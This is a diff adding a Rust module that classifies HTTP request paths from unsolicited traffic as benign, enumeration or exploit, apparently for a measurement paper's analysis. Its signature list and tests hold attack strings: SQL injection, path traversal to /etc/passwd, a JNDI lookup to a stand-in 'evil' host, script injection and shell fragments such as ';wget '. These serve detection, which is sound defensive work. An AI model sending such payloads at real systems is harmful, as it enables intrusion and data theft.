@@ -1,0 +1,140 @@
+//! HTTP payload triage: the exploit-db stand-in.
+//!
+//! Section 5 examines the paths of unsolicited HTTP requests: "most
+//! requests (95%) are performing path enumeration ... we do not find
+//! requests with highly malicious payloads or vulnerability exploit codes".
+//! This module classifies paths the same way.
+
+use serde::{Deserialize, Serialize};
+
+/// Classification of one HTTP request path.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
+pub enum PayloadClass {
+    /// Plain content fetch ("/" or an ordinary document).
+    Benign,
+    /// Directory/endpoint enumeration (the dominant class in the paper).
+    Enumeration,
+    /// Carries a known exploit signature (the paper found none).
+    Exploit,
+}
+
+/// Signatures of exploit payloads (exploit-db-style), checked as
+/// case-insensitive substrings of the raw path + query.
+const EXPLOIT_SIGNATURES: &[&str] = &[
+    "union select",
+    "union+select",
+    "' or 1=1",
+    "%27%20or%201%3d1",
+    "../../",
+    "..%2f..%2f",
+    "${jndi:",
+    "<script>",
+    "%3cscript%3e",
+    "/bin/sh",
+    ";wget ",
+    "|cat /etc/passwd",
+    "cmd.exe",
+    "eval(",
+    "base64_decode(",
+];
+
+/// Paths that indicate enumeration when probed blindly.
+const ENUMERATION_MARKERS: &[&str] = &[
+    "/admin",
+    "/login",
+    "/wp-login",
+    "/wp-admin",
+    "/backup",
+    "/.git",
+    "/.env",
+    "/.svn",
+    "/config",
+    "/phpinfo",
+    "/api",
+    "/test",
+    "/old",
+    "/tmp",
+    "/static",
+    "/images",
+    "/uploads",
+    "/robots.txt",
+    "/.well-known",
+];
+
+/// The signature database (wraps the static tables; real deployments would
+/// refresh from a feed).
+#[derive(Debug, Clone, Default)]
+pub struct ExploitSignatureDb;
+
+impl ExploitSignatureDb {
+    pub fn new() -> Self {
+        Self
+    }
+
+    pub fn signature_count(&self) -> usize {
+        EXPLOIT_SIGNATURES.len()
+    }
+
+    /// Does the path carry a known exploit payload?
+    pub fn matches(&self, path: &str) -> bool {
+        let lower = path.to_ascii_lowercase();
+        EXPLOIT_SIGNATURES.iter().any(|sig| lower.contains(sig))
+    }
+}
+
+/// Classify one request path.
+pub fn classify_path(path: &str) -> PayloadClass {
+    let db = ExploitSignatureDb::new();
+    if db.matches(path) {
+        return PayloadClass::Exploit;
+    }
+    let lower = path.to_ascii_lowercase();
+    if lower == "/" || lower == "/index.html" || lower == "/favicon.ico" {
+        return PayloadClass::Benign;
+    }
+    if ENUMERATION_MARKERS.iter().any(|m| lower.starts_with(m)) {
+        return PayloadClass::Enumeration;
+    }
+    // Unknown deep paths probed blind still count as enumeration.
+    PayloadClass::Enumeration
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn homepage_is_benign() {
+        assert_eq!(classify_path("/"), PayloadClass::Benign);
+        assert_eq!(classify_path("/index.html"), PayloadClass::Benign);
+    }
+
+    #[test]
+    fn scanner_paths_are_enumeration() {
+        for path in ["/admin/", "/.git/config", "/wp-login.php", "/backup/", "/robots.txt"] {
+            assert_eq!(classify_path(path), PayloadClass::Enumeration, "{path}");
+        }
+    }
+
+    #[test]
+    fn exploit_signatures_detected() {
+        for path in [
+            "/search?q=1' OR 1=1--",
+            "/download?f=../../etc/passwd",
+            "/x?p=${jndi:ldap://evil}",
+            "/q?s=<script>alert(1)</script>",
+            "/?cmd=UNION SELECT password FROM users",
+        ] {
+            assert_eq!(classify_path(path), PayloadClass::Exploit, "{path}");
+        }
+    }
+
+    #[test]
+    fn signature_matching_is_case_insensitive() {
+        let db = ExploitSignatureDb::new();
+        assert!(db.matches("/a?x=UNION SELECT 1"));
+        assert!(db.matches("/a?x=union select 1"));
+        assert!(!db.matches("/a?x=unionized selection"));
+        assert!(db.signature_count() > 10);
+    }
+}
